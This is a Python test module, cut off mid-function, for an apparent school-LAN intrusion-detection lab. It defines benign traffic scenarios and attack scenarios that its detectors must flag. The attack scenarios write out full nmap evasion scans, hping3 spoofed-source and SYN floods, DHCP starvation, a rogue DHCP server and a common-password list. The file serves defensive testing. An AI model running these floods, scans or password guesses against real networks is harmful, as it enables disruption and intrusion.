"""The lab's scenarios: a benign school day and one real attack tool each.

Every scenario is bounded by a packet count, by ``timeout``, or both, and runs only
inside the lab's namespaces. Each returns what it did (the exact command) and which
detectors it must raise. The live tests and ``scripts/record-lab-captures`` share them;
``small=True`` shrinks the floods so that a recording stays a few hundred kilobytes.
"""

from __future__ import annotations

import contextlib
import os
import random
import signal
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

from tests.lab.lan import IF, LAN, TUNNEL_DOMAIN, UPSTREAM_DOMAIN, Host, SchoolLan, which

SERVER6, ATTACKER6, STUDENT6 = "fd77::10", "fd77::66", "fd77::101"
GATEWAY6 = "fd77::1"

PASSWORDS = [
    "123456",
    "password",
    "123456789",
    "12345678",
    "12345",
    "qwerty",
    "abc123",
    "football",
    "1234567",
    "monkey",
    "111111",
    "letmein",
    "1234",
    "1234567890",
    "dragon",
    "baseball",
    "sunshine",
    "iloveyou",
    "trustno1",
    "princess",
    "admin",
    "welcome",
    "666666",
    "password1",
    "123123",
    "654321",
    "superman",
    "qazwsx",
    "michael",
    "Password1",
    "school2024",
    "teacher",
    "summer2024",
    "changeme",
    "P@ssw0rd",
    "classroom",
]
SSH_OPTS = [
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "BatchMode=yes",
    "-o",
    "ConnectTimeout=5",
    "-o",
    "LogLevel=ERROR",
]


@dataclass
class Outcome:
    scenario: str
    expected: tuple[str, ...]
    command: str
    description: str
    attacker: Host | None
    tool: str
    fast: bool = True  # detected within seconds of the start
    notes: dict[str, object] = field(default_factory=dict)


@dataclass(frozen=True)
class Scenario:
    name: str
    tools: tuple[str, ...]
    run: Callable[[SchoolLan, bool], Outcome]


def _bounded(lan: SchoolLan, ns: str, seconds: float, *cmd: str) -> str:
    """Run a tool under timeout(1) (SIGINT first, so it cleans up), return its output."""
    lan.attack_started = time.monotonic()
    proc = lan.run(ns, "timeout", "-s", "INT", "-k", "3", str(seconds), *cmd, timeout=seconds + 10)
    return proc.stdout + proc.stderr


# --------------------------------------------------------------------- benign
def baseline(lan: SchoolLan, small: bool = False) -> Outcome:
    srv, stu = lan.srv, lan.students
    # DHCP: each student renews its reserved address
    for s in stu:
        lan.dhcp(s)
    # DNS: names of the intranet and one web site, plus a typo (NXDOMAIN)
    names = ["www.school.lan", "srv.school.lan", "news.example.com", "newss.example.com"]
    for s in stu:
        for n in names:
            lan.run(s.ns, "busybox", "nslookup", n, srv.ip, timeout=10)
    # HTTP: intranet pages and the internet host
    for s in stu:
        for page in ("", "homework1.html", "homework2.html", "homework3.html"):
            lan.run(
                s.ns,
                "curl",
                "-4",
                "-s",
                "-m",
                "5",
                "-o",
                "/dev/null",
                f"http://www.school.lan/{page}",
                timeout=10,
            )
        lan.run(
            s.ns,
            "curl",
            "-4",
            "-s",
            "-m",
            "5",
            "-o",
            "/dev/null",
            "http://news.example.com/",
            timeout=10,
        )
    lan.run(
        stu[0].ns,
        "curl",
        "-4",
        "-s",
        "-m",
        "10",
        "-o",
        "/dev/null",
        "http://news.example.com/chunk.bin",
        timeout=15,
    )
    # an admin's three SSH sessions from student laptop 1 (key login as root)
    key = str(lan.work / "sshd" / "admin")
    for cmd in ("uptime", "df -h /", "systemctl --no-pager is-system-running || true"):
        lan.run(stu[0].ns, "ssh", *SSH_OPTS, "-i", key, f"root@{srv.ip}", cmd, timeout=20)
        time.sleep(1)
    # pings to the gateway
    for s in stu:
        lan.run(s.ns, "busybox", "ping", "-c", "2", "-i", "0.3", lan.gw.ip, timeout=10)
    return Outcome(
        "baseline",
        (),
        "udhcpc renew x3; busybox nslookup (4 names incl. 1 NXDOMAIN) x3; curl intranet and "
        "internet pages x3 + 64 KiB download; ssh -i key root@server x3; busybox ping gateway",
        "A normal school LAN: DHCP renewals, DNS lookups against the school resolver, web "
        "browsing, three SSH sessions of an admin, pings. No detector may fire.",
        None,
        "busybox udhcpc/nslookup/ping, curl, openssh-client",
    )


# --------------------------------------------------------------------- benign, busy
# What schools really carry, each recorded on its own: none of it may raise an alert
# (second_dhcp_server: one warning). The generators are real sockets (traffic.py, run
# with the system python3 inside a namespace), real daemons and real clients.
TRAFFIC = str(Path(__file__).with_name("traffic.py"))
P2P_PEERS = [f"203.0.113.{50 + i}" for i in range(32)]  # peers on the internet
CDN = [f"203.0.113.{20 + i}" for i in range(4)]  # an update service's CDN nodes


def _py(*args: str) -> tuple[str, ...]:
    return (which("python3") or sys.executable, TRAFFIC, *args)


@contextlib.contextmanager
def _aliases(lan: SchoolLan, host: Host, addrs: list[str]) -> Iterator[None]:
    """Extra addresses on one host (several servers or peers behind one interface)."""
    for a in addrs:
        lan.sh("ip", "-n", host.ns, "addr", "add", f"{a}/32", "dev", IF)
    try:
        yield
    finally:
        for a in addrs:
            lan.sh("ip", "-n", host.ns, "addr", "del", f"{a}/32", "dev", IF, check=False)


@contextlib.contextmanager
def upstream_dns(lan: SchoolLan) -> Iterator[None]:
    """dnsmasq on the internet host answering for example.net (the school resolver forwards
    that domain there): every name resolves, CDN names to the CDN nodes."""
    wan = lan.wan
    proc = lan.start(
        wan.ns,
        "dnsmasq-upstream",
        "dnsmasq",
        "-k",
        f"--listen-address={wan.ip}",
        "--bind-interfaces",
        "--no-resolv",
        "--no-hosts",
        "--user=root",
        f"--pid-file={lan.work / 'dnsmasq-upstream.pid'}",
        *(f"--address=/{d}.{UPSTREAM_DOMAIN}/{CDN[i]}" for i, d in enumerate(("dl", "cdn"))),
        f"--address=/{UPSTREAM_DOMAIN}/{wan.ip}",
        f"--local=/{UPSTREAM_DOMAIN}/",  # authoritative: AAAA gets an empty answer
    )
    try:
        time.sleep(0.5)
        yield
    finally:
        lan.stop(proc)


def p2p_client(lan: SchoolLan, small: bool = False) -> Outcome:
    stu, rng = lan.students, random.Random(7)
    lan_peers = [stu[1], stu[2], lan.attacker]  # other laptops running the same client
    client = f"{stu[0].ip}:51413"
    wan_listen = [f"{a}:{rng.randrange(10000, 65000)}" for a in P2P_PEERS]
    lan_listen = {
        h.ns: [f"{h.ip}:{rng.randrange(10000, 65000)}" for _ in range(3)] for h in lan_peers
    }
    seconds = "25"
    with _aliases(lan, lan.wan, P2P_PEERS):
        peers = [
            lan.start(
                lan.wan.ns,
                "peer-wan",
                *_py("peer", "--listen", *wan_listen, "--call", client, "--seconds", seconds),
            )
        ]
        peers += [
            lan.start(ns, f"peer-{i}", *_py("peer", "--listen", *addrs, "--seconds", seconds))
            for i, (ns, addrs) in enumerate(lan_listen.items())
        ]
        try:
            time.sleep(1)
            every = wan_listen + [a for addrs in lan_listen.values() for a in addrs]
            out = lan.run(stu[0].ns, *_py("swarm", "--peer", *every, "--seconds", "20"), timeout=40)
        finally:
            for p in peers:
                lan.stop(p)
    return Outcome(
        "p2p_client",
        (),
        f"traffic.py swarm: {len(every)} peers ({len(P2P_PEERS)} internet addresses, 3 laptops) "
        "on random high ports, 3 rounds of uTP-like UDP, BitTorrent handshakes and pieces over "
        "TCP with three peers in four; 12 peers connect back to 51413",
        f"A peer-to-peer client on student laptop 1: UDP and TCP with {len(every)} peers on "
        "many high ports, every datagram and handshake answered, incoming connections too. "
        "No detector may fire.",
        None,
        "python3 sockets (tests/lab/traffic.py)",
        notes={"swarm": out.stdout.strip()[-200:]},
    )


def lan_chatter(lan: SchoolLan, small: bool = False) -> Outcome:
    hosts = [(lan.srv, "printer", "laserjet-staff")]
    hosts += [(s, "laptop", f"laptop{i}") for i, s in enumerate(lan.students, 1)]
    procs = [
        lan.start(
            h.ns,
            f"chatter-{name}",
            *_py("chatter", "--role", role, "--name", name, "--count", "6", "--interval", "2"),
        )
        for h, role, name in hosts
    ]
    try:
        for p in procs:
            p.wait(30)
    finally:
        for p in procs:
            lan.stop(p)
    return Outcome(
        "lan_chatter",
        (),
        "traffic.py chatter on the server (a printer) and three laptops: 6 rounds, 2 s apart",
        "Broadcast and multicast chatter from four hosts: mDNS queries and announcements "
        "(224.0.0.251:5353), SSDP M-SEARCH and NOTIFY (239.255.255.250:1900) with unicast "
        "answers, LLMNR queries (224.0.0.252:5355) and NetBIOS name queries (broadcast to "
        "10.77.0.255:137), answered by the printer. No detector may fire.",
        None,
        "python3 sockets (tests/lab/traffic.py)",
    )


BACKUP_SHARES = (
    "homework",
    "staff",
    "admin",
    "library",
    "music",
    "art",
    "science",
    "sports",
    "office",
    "exams",
    "photos",
)


def file_server(lan: SchoolLan, small: bool = False) -> Outcome:
    srv, stu = lan.srv, lan.students
    share = lan.work / "www-srv" / "share"
    share.mkdir(exist_ok=True)
    for i in range(20):
        (share / f"worksheet{i:02}.pdf").write_bytes(os.urandom(3000))
    backup = lan.work / "backup"
    backup.mkdir(exist_ok=True)
    for d in BACKUP_SHARES:
        (backup / f"{d}.tar").write_bytes(os.urandom(80 * 1024))
    urls = [f"http://{srv.ip}/share/worksheet{i:02}.pdf" for i in range(20)]
    clients = [*stu, lan.attacker]  # a classroom of four laptops
    curl = ["curl", "-4", "-s", "-m", "10", "--parallel", "--parallel-max", "4"]
    procs = [
        lan.start(c.ns, f"pull-{i}", *curl, *(x for u in urls for x in ("-o", "/dev/null", u)))
        for i, c in enumerate(clients)
    ]
    try:
        for p in procs:
            p.wait(30)
    finally:
        for p in procs:
            lan.stop(p)
    # the nightly backup: one archive per share copied to the server over ssh (admin's
    # key), one after another: more connections to sshd than a password guesser's 10
    key = str(lan.work / "sshd" / "admin")
    for d in BACKUP_SHARES:
        lan.run(
            stu[0].ns,
            "scp",
            "-O",  # the classic protocol: the lab's sshd has no sftp subsystem
            *SSH_OPTS,
            "-i",
            key,
            str(backup / f"{d}.tar"),
            f"root@{srv.ip}:{lan.work / 'backup' / (d + '.copy')}",
            timeout=30,
        )
    return Outcome(
        "file_server",
        (),
        f"curl --parallel --parallel-max 4 (20 files of 3 kB) from {len(clients)} laptops; "
        f"scp -O -i key x{len(BACKUP_SHARES)} (80 KiB archives, one after another) to root@server",
        f"A busy file server: {len(clients)} laptops pull 20 worksheets each over HTTP, four "
        "connections at a time (80 connections in seconds), then a backup job copies "
        f"{len(BACKUP_SHARES)} archives over ssh, one connection each. Recorded with a "
        "96-byte snap length. No detector may fire.",
        None,
        "curl, openssh-client (scp)",
    )


def updates_cdn(lan: SchoolLan, small: bool = False) -> Outcome:
    stu, srv = lan.students, lan.srv
    rng = random.Random(11)
    names = [f"{rng.randbytes(16).hex()}.dl.{UPSTREAM_DOMAIN}" for _ in range(16)]
    names += [f"{rng.randbytes(20).hex()}-c{i}.cdn.{UPSTREAM_DOMAIN}" for i in range(16)]
    with _aliases(lan, lan.wan, CDN), upstream_dns(lan):
        cdn = lan.start(lan.wan.ns, "cdn", *_py("cdn", "--listen", *CDN, "--seconds", "40"))
        try:
            time.sleep(0.5)
            for n in names:
                lan.run(stu[0].ns, "busybox", "nslookup", n, srv.ip, timeout=10)
            out = lan.run(
                stu[0].ns,
                *_py("fetch", "--server", *CDN, "--connections", "40", "--parallel", "10"),
                timeout=40,
            )
        finally:
            lan.stop(cdn)
    return Outcome(
        "updates_cdn",
        (),
        f"busybox nslookup x{len(names)} (32- and 40-hex labels under {UPSTREAM_DOMAIN}); "
        "traffic.py fetch: 40 TCP connections to 4 CDN nodes on 443, 10 at a time",
        "Software updates: a laptop resolves many hashed CDN names through the school "
        "resolver (forwarded upstream) and pulls pieces over many parallel HTTPS-like "
        "connections. No detector may fire.",
        None,
        "busybox nslookup, python3 sockets (tests/lab/traffic.py), dnsmasq",
        notes={"fetch": out.stdout.strip()[-200:]},
    )


def resolver_relay(lan: SchoolLan, small: bool = False) -> Outcome:
    srv = lan.srv
    sites = [
        "www",
        "mail",
        "video",
        "maps",
        "news",
        "weather",
        "library",
        "museum",
        "sports",
        "music",
        "games",
        "science",
    ]
    with upstream_dns(lan):
        for s in lan.students:
            for site in sites:
                lan.run(
                    s.ns, "busybox", "nslookup", f"{site}.{UPSTREAM_DOMAIN}", srv.ip, timeout=10
                )
    return Outcome(
        "resolver_relay",
        (),
        f"busybox nslookup x{len(sites)} names under {UPSTREAM_DOMAIN} from 3 laptops",
        "The school resolver (dnsmasq on the server) relays the laptops' lookups to an "
        "upstream resolver on the internet host: the server is not a DNS tunnel client. "
        "No detector may fire.",
        None,
        "busybox nslookup, dnsmasq",
    )


def second_dhcp_server(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    args = [
        "-k",
        "--port=0",
        f"--interface={IF}",
        "--bind-interfaces",
        "--no-hosts",
        "--no-resolv",
        "--dhcp-range=10.77.0.200,10.77.0.220,255.255.255.0,5m",
        f"--dhcp-option=3,{lan.gw.ip}",
        f"--dhcp-option=6,{lan.srv.ip}",
        "--no-ping",
        "--user=root",
        f"--dhcp-leasefile={lan.work / 'second.leases'}",
        f"--pid-file={lan.work / 'second.pid'}",
    ]
    second = lan.start(a.ns, "second-dnsmasq", "dnsmasq", *args)
    try:
        time.sleep(1)
        leases = [lan.dhcp(s).strip() for s in lan.students[1:]]
    finally:
        lan.stop(second)
    for s in lan.students[1:]:
        lan.dhcp(s)
    return Outcome(
        "second_dhcp_server",
        ("rogue_dhcp",),
        "dnsmasq " + " ".join(x for x in args if "file" not in x),
        "A second, ordinary DHCP server the config does not list (router = the school's "
        "gateway, DNS = the school's resolver), answering students 2 and 3: a warning to "
        "list it, not a critical rogue.",
        a,
        "dnsmasq",
        notes={"udhcpc": leases, "expected_severity": {"rogue_dhcp": "warning"}},
    )


def multicast_source_frame(lan: SchoolLan, small: bool = False) -> Outcome:
    srv, stu, a = lan.srv, lan.students, lan.attacker
    for s in stu:
        lan.run(
            s.ns, "curl", "-4", "-s", "-m", "5", "-o", "/dev/null", f"http://{srv.ip}/", timeout=10
        )
    mac = bytes.fromhex(srv.mac.replace(":", ""))
    code = (
        "import socket,struct,sys;"
        "s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW);s.bind(('lan0',0));"
        "ip=bytes([0x45,0,0,29,0,1,0,0,64,17,0,0])+socket.inet_aton(sys.argv[2])"
        "+socket.inet_aton(sys.argv[3]);"
        "s.send(bytes.fromhex(sys.argv[1])+bytes.fromhex('01005e7ffffa')+b'\\x08\\x00'"
        "+ip+struct.pack('!4H',40000,9,9,0)+b'x')"
    )
    lan.run(
        a.ns,
        which("python3") or sys.executable,
        "-c",
        code,
        mac.hex(),
        a.ip,
        srv.ip,
        timeout=10,
        check=True,
    )
    for s in stu:
        lan.run(s.ns, "busybox", "ping", "-c", "2", "-i", "0.3", lan.gw.ip, timeout=10)
    return Outcome(
        "multicast_source_frame",
        (),
        "curl x3; one raw frame (source MAC 01:00:5e:7f:ff:fa, UDP to the server's port 9); "
        "busybox ping x3",
        "Ordinary browsing and pings with one odd frame whose source MAC is a multicast "
        "address (a broken NIC or driver): a malformed frame, counted, not a MAC flood.",
        None,
        "curl, busybox, python3 AF_PACKET socket",
    )


# --------------------------------------------------------------------- scans
def _nmap(
    lan: SchoolLan,
    name: str,
    args: list[str],
    expected: str,
    descr: str,
    seconds: float = 60,
    fast: bool = True,
) -> Outcome:
    a = lan.attacker
    out = _bounded(lan, a.ns, seconds, "nmap", *args)
    return Outcome(
        name,
        (expected,),
        "nmap " + " ".join(args),
        descr,
        a,
        "nmap",
        fast,
        {"output_tail": out[-300:]},
    )


def syn_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "syn_scan",
        ["-sS", "-Pn", "-n", "-T4", "-p", "1-1000", lan.srv.ip],
        "port_scan",
        "nmap SYN scan of 1000 ports on the school server",
    )


def _fast_scan(name: str, flag: str, what: str):  # type: ignore[no-untyped-def]
    """nmap at 4,000 probes a second: the server's kernel answers (RSTs, port
    unreachables) arrive at a flood's rate, and must stay the scan's evidence."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        return _nmap(
            lan,
            name,
            [
                flag,
                "-Pn",
                "-n",
                "-p",
                "1-2500",
                "--min-rate",
                "4000",
                "--max-retries",
                "0",
                lan.srv.ip,
            ],
            "port_scan",
            f"fast nmap {what} of 2500 ports on the school server (the answers at a flood's "
            "rate: port_scan only, naming the scanner)",
        )

    return run


fast_syn_scan = _fast_scan("fast_syn_scan", "-sS", "SYN scan")
fast_ack_scan = _fast_scan("fast_ack_scan", "-sA", "ACK scan")
fast_udp_scan = _fast_scan("fast_udp_scan", "-sU", "UDP scan")


def connect_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "connect_scan",
        ["-sT", "-Pn", "-n", "-T4", "-p", "1-1000", lan.srv.ip],
        "port_scan",
        "nmap connect() scan (full handshakes on open ports)",
    )


def slow_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "slow_scan",
        ["-sS", "-Pn", "-n", "--scan-delay", "2s", "-p", "20-30", lan.srv.ip],
        "port_scan",
        "slow nmap SYN scan: 11 ports, one probe every 2 s (below the fast thresholds)",
        seconds=45,
        fast=False,
    )


def _probe_scan(flag: str, name: str, what: str, ports: str = "1-300"):  # type: ignore[no-untyped-def]
    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        return _nmap(
            lan,
            name,
            [flag, "-Pn", "-n", "-T4", "--max-retries", "1", "-p", ports, lan.srv.ip],
            "port_scan",
            f"nmap {what} of {ports} on the school server",
            seconds=60,
        )

    return run


fin_scan = _probe_scan("-sF", "fin_scan", "FIN scan")
null_scan = _probe_scan("-sN", "null_scan", "NULL scan (no flags)")
xmas_scan = _probe_scan("-sX", "xmas_scan", "Xmas scan (FIN, PSH, URG)")
ack_scan = _probe_scan("-sA", "ack_scan", "ACK scan (answered by bare RSTs)")
window_scan = _probe_scan("-sW", "window_scan", "Window scan")
maimon_scan = _probe_scan("-sM", "maimon_scan", "Maimon scan (FIN/ACK)")


@contextlib.contextmanager
def _server_firewall(lan: SchoolLan) -> Iterator[None]:
    """The school server's nftables drop every TCP segment from the attacker: its ports
    are filtered, so a probe gets no answer at all."""
    table = ("inet", "sentinel_lab")
    lan.run(lan.srv.ns, "nft", "add", "table", *table, check=True)
    lan.run(lan.srv.ns, "nft", "add", "chain", *table, "input",
            "{ type filter hook input priority 0; }", check=True)  # fmt: skip
    lan.run(lan.srv.ns, "nft", "add", "rule", *table, "input", "ip", "saddr", lan.attacker.ip,
            "meta", "l4proto", "tcp", "drop", check=True)  # fmt: skip
    try:
        yield
    finally:
        lan.run(lan.srv.ns, "nft", "delete", "table", "inet", "sentinel_lab")


def _filtered_scan(flag: str, name: str, what: str):  # type: ignore[no-untyped-def]
    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        with _server_firewall(lan):
            return _nmap(
                lan,
                name,
                [flag, "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1-200", lan.srv.ip],
                "port_scan",
                f"nmap {what} of 1-200 on the school server, whose firewall drops the "
                "attacker's TCP (filtered: no answer at all)",
                seconds=60,
            )

    return run


filtered_ack_scan = _filtered_scan("-sA", "filtered_ack_scan", "ACK scan")
filtered_window_scan = _filtered_scan("-sW", "filtered_window_scan", "Window scan")
filtered_maimon_scan = _filtered_scan("-sM", "filtered_maimon_scan", "Maimon scan (FIN/ACK)")


def udp_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    """The server's kernel rate-limits its port unreachables (about one a second)."""
    return _nmap(
        lan,
        "udp_scan",
        ["-sU", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-200", lan.srv.ip],
        "port_scan",
        "nmap UDP scan of 200 ports (empty datagrams; rate-limited ICMP port unreachables)",
        seconds=40,
    )


def udp_data_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    """Every probe carries 24 bytes and none is retried: the server's kernel answers about
    one port unreachable a second, so the probes themselves are the scan."""
    args = ["-sU", "-Pn", "-n", "-T4", "--max-retries", "0", "--data-length", "24"]
    return _nmap(
        lan,
        "udp_data_scan",
        [*args, "-p", "1-300", lan.srv.ip],
        "port_scan",
        "nmap UDP scan of 300 ports, 24-byte payloads, no retries (rate-limited unreachables)",
        seconds=40,
    )


@contextlib.contextmanager
def _no_unreachables(lan: SchoolLan) -> Iterator[None]:
    """The school server's nftables drop the ICMP errors it would send the attacker (a
    firewall that keeps its closed ports silent): a UDP probe gets no answer at all."""
    table = ("inet", "sentinel_lab")
    lan.run(lan.srv.ns, "nft", "add", "table", *table, check=True)
    lan.run(lan.srv.ns, "nft", "add", "chain", *table, "output",
            "{ type filter hook output priority 0; }", check=True)  # fmt: skip
    lan.run(lan.srv.ns, "nft", "add", "rule", *table, "output", "ip", "daddr", lan.attacker.ip,
            "icmp", "type", "destination-unreachable", "drop", check=True)  # fmt: skip
    try:
        yield
    finally:
        lan.run(lan.srv.ns, "nft", "delete", "table", "inet", "sentinel_lab")


def udp_data_scan_slow(lan: SchoolLan, small: bool = False) -> Outcome:
    """-T2 (a probe every 0.4 s), 24 bytes each, no retries, at a server whose firewall
    drops its port unreachables: no second holds 8 ports, nothing answers; the capture
    side's pairs of the site's hosts see the ports spread over the seconds."""
    args = ["-sU", "-Pn", "-n", "-T2", "--max-retries", "0", "--data-length", "24"]
    with _no_unreachables(lan):
        outcome = _nmap(
            lan,
            "udp_data_scan_slow",
            [*args, "-p", "1-40", lan.srv.ip],
            "port_scan",
            "nmap -T2 UDP scan of 40 ports, 24-byte payloads, no retries, at a server "
            "whose firewall drops its port unreachables (no answer at all)",
            seconds=60,
        )
    return replace(outcome, notes={**outcome.notes, "expected_kind": {"port_scan": "vertical"}})


def ipproto_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "ipproto_scan",
        ["-sO", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "0-255", lan.srv.ip],
        "port_scan",
        "nmap IP-protocol scan of the 256 protocol numbers (protocol unreachables back)",
        seconds=40,
    )


@contextlib.contextmanager
def _server_and_attacker_ipv6(lan: SchoolLan) -> Iterator[None]:
    """The server on SERVER6 and the attacker on ATTACKER6 for the block, then IPv6 off."""
    lan.ipv6(lan.srv, SERVER6)
    lan.ipv6(lan.attacker, ATTACKER6)
    try:
        time.sleep(1)
        yield
    finally:
        lan.ipv6(lan.attacker, None)
        lan.ipv6(lan.srv, None)


def ipv6_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    with _server_and_attacker_ipv6(lan):
        out = _nmap(
            lan,
            "ipv6_scan",
            ["-6", "-sS", "-Pn", "-n", "-T4", "-p", "1-300", SERVER6],
            "port_scan",
            f"nmap SYN scan over IPv6 ({ATTACKER6} to {SERVER6}) of 300 ports",
        )
    out.notes["attacker_ip6"] = ATTACKER6
    return out


def polite_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "polite_scan",
        ["-sS", "-Pn", "-n", "-T2", "-p", "20-45", lan.srv.ip],
        "port_scan",
        "nmap -T2 (polite, 0.4 s between probes) SYN scan of 26 ports",
        seconds=60,
        fast=False,
    )


def decoy_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "decoy_scan",
        [
            "-sS",
            "-Pn",
            "-n",
            "-T4",
            "-D",
            "10.77.0.201,10.77.0.202,192.0.2.7,ME",
            "-p",
            "1-200",
            lan.srv.ip,
        ],
        "port_scan",
        "nmap SYN scan of 200 ports with three decoys (two of the LAN, one outside)",
    )


def ping_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "ping_sweep",
        ["-sn", "-n", LAN],
        "host_sweep",
        "nmap host discovery of the /24 (ARP requests on the local segment)",
    )


def icmp_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "icmp_sweep",
        ["-sn", "-n", "-T4", "-PE", "--send-ip", LAN],
        "host_sweep",
        "nmap ICMP echo sweep through the IP stack (--send-ip): the kernel ARPs for "
        "every address, echo requests go to the live ones",
    )


def sweep_and_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    """nmap's default run over the LAN: host discovery, then the common ports of every host
    that answered. Two detectors, one source: one incident."""
    a = lan.attacker
    args = ["-sS", "-n", "-T4", "--top-ports", "100", LAN]
    out = _bounded(lan, a.ns, 90, "nmap", *args)
    return Outcome(
        "sweep_and_scan",
        ("host_sweep", "port_scan"),
        "nmap " + " ".join(args),
        "nmap host discovery of the /24, then a SYN scan of the 100 most common ports "
        "on every live host",
        a,
        "nmap",
        notes={"output_tail": out[-300:], "one_incident": True},
    )


# --------------------------------------------------------------------- evasions
# Scans a student can run to step around a detector: a service's source port, another
# transport, IPv4 fragments, IPv6 neighbour discovery instead of ARP. Small on purpose
# (the recordings share the 10 MiB of tests/data/lab).
_QUICK = ["-Pn", "-n", "-T4", "--max-retries", "0"]


def sport53_udp_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "sport53_udp_scan",
        ["-sU", "-g", "53", *_QUICK, "-p", "1-40", lan.srv.ip],
        "port_scan",
        "nmap UDP scan of 40 ports from source port 53 (-g 53): empty datagrams that a "
        "port filter takes for DNS",
    )


def fragmented_syn_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    return _nmap(
        lan,
        "fragmented_syn_scan",
        ["-sS", "-f", *_QUICK, "-p", "1-25", lan.srv.ip],
        "port_scan",
        "nmap SYN scan of 25 ports in IPv4 fragments of 8 bytes (-f): no fragment holds "
        "the whole TCP header; the server reassembles each probe and refuses it",
    )


def _sctp_scan(name: str, flag: str, what: str, ports: str):  # type: ignore[no-untyped-def]
    """The lab's kernel has no SCTP: the server answers with ICMP protocol unreachables
    (rate-limited: a burst of six, then about one a second), or with nothing."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        return _nmap(
            lan,
            name,
            [flag, *_QUICK, "-p", ports, lan.srv.ip],
            "port_scan",
            f"nmap SCTP {what} scan of ports {ports} on the school server (no SCTP there: a "
            "few rate-limited ICMP protocol unreachables, silence for the rest)",
        )

    return run


sctp_init_scan = _sctp_scan("sctp_init_scan", "-sY", "INIT", "1-60")
sctp_cookie_scan = _sctp_scan("sctp_cookie_scan", "-sZ", "COOKIE ECHO", "1-40")


def nd_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
    """nmap's IPv6 host discovery on the LAN segment: neighbour solicitations for 64
    addresses of the LAN's /64 (the IPv6 twin of an ARP sweep); the server answers."""
    with _server_and_attacker_ipv6(lan):
        out = _nmap(
            lan,
            "nd_sweep",
            ["-6", "-sn", "-n", "-T4", "fd77::/122"],
            "host_sweep",
            "nmap -6 -sn of 64 addresses of the LAN's /64 (fd77::/122): neighbour "
            "solicitations, as an ARP sweep asks ARP",
        )
    out.notes["attacker_ip6"] = ATTACKER6
    return out


# --------------------------------------------------------------------- floods
def syn_flood(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    count, gap = ("3000", "u1000") if small else ("20000", "u100")
    args = ["-S", "-p", "80", "-c", count, "-i", gap, lan.srv.ip]
    out = _bounded(lan, a.ns, 30, "hping3", *args)
    return Outcome(
        "syn_flood",
        ("syn_flood",),
        "hping3 " + " ".join(args),
        f"hping3 SYN flood, {count} SYNs to the server's port 80",
        a,
        "hping3",
        notes={"output_tail": out[-300:]},
    )


def _hping_flood(name: str, expected: str, flags: list[str], what: str, port: bool = True):  # type: ignore[no-untyped-def]
    """hping3 at about 2,000 packets a second for two seconds (3,000 when recording)."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        a = lan.attacker
        count = "3000" if small else "4000"
        args = [*flags, *(["-p", "80"] if port else []), "-c", count, "-i", "u500", lan.srv.ip]
        out = _bounded(lan, a.ns, 30, "hping3", *args)
        return Outcome(
            name,
            (expected,),
            "hping3 " + " ".join(args),
            f"hping3 {what}, {count} packets at about 2,000 a second",
            a,
            "hping3",
            notes={"output_tail": out[-300:]}
            | ({"no_single_source": True} if "--rand-source" in flags else {}),
        )

    return run


syn_burst = _hping_flood("syn_burst", "syn_flood", ["-S"], "two-second SYN burst to port 80")
spoofed_syn_flood = _hping_flood(
    "spoofed_syn_flood", "syn_flood", ["-S", "--rand-source"], "SYN flood from random sources"
)
rst_flood = _hping_flood("rst_flood", "flood", ["-R"], "RST flood")
ack_flood = _hping_flood("ack_flood", "flood", ["-A"], "ACK flood (the server answers RSTs)")
udp_flood = _hping_flood("udp_flood", "flood", ["--udp"], "UDP flood of empty datagrams")
icmp_flood = _hping_flood("icmp_flood", "flood", ["--icmp"], "ICMP echo flood", port=False)


def udp_data_flood(lan: SchoolLan, small: bool = False) -> Outcome:
    """hping3 UDP datagrams of 120 bytes, 30,000 as fast as -i u30 paces them: datagrams
    with data are never frames for the detectors, the capture side counts them."""
    a = lan.attacker
    args = ["--udp", "-d", "120", "-p", "9999", "-c", "30000", "-i", "u30", lan.srv.ip]
    out = _bounded(lan, a.ns, 30, "hping3", *args)
    return Outcome(
        "udp_data_flood",
        ("flood",),
        "hping3 " + " ".join(args),
        "hping3 UDP flood of 120-byte datagrams, 30,000 paced at 30 µs",
        a,
        "hping3",
        notes={"output_tail": out[-300:]},
    )


def dhcp_starvation(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    args = ["-i", IF]
    # dhcpstarv takes one lease at a time, and dnsmasq pings each address before offering
    # it (3 s): 45 s asks for about fifteen client MACs.
    out = _bounded(lan, a.ns, 45, "dhcpstarv", *args)
    return Outcome(
        "dhcp_starvation",
        ("dhcp_starvation",),
        "timeout 45 dhcpstarv " + " ".join(args),
        "dhcpstarv: DISCOVERs and REQUESTs for random client MACs, one lease at a time",
        a,
        "dhcpstarv",
        notes={"output_tail": out[-300:]},
    )


def mac_flood(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    args = ["-i", IF, "-n", "3000"] if small else ["-i", IF]
